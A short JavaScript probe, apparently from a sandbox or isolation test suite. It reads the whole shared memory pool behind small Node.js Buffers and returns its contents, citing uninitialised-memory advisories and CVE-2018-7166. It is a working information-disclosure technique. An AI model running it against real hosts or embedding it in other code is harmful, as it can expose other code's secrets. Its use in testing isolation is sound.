// Tries: the pool behind small Buffers, which the platform's own code shares: frames may lie in it.
// Origin: uninitialised and shared Buffer memory (Node's Buffer(number) advisories; CVE-2018-7166).

const found = [];
for (const made of [Buffer.from("x"), Buffer.allocUnsafe(8), Buffer.from("yy", "utf8"), Buffer.alloc(1), Buffer.concat([Buffer.from("z")])]) {
  found.push(new TextDecoder("latin1").decode(new Uint8Array(made.buffer)));
}
return found.join("|").replaceAll("\0", "").slice(0, 100000);
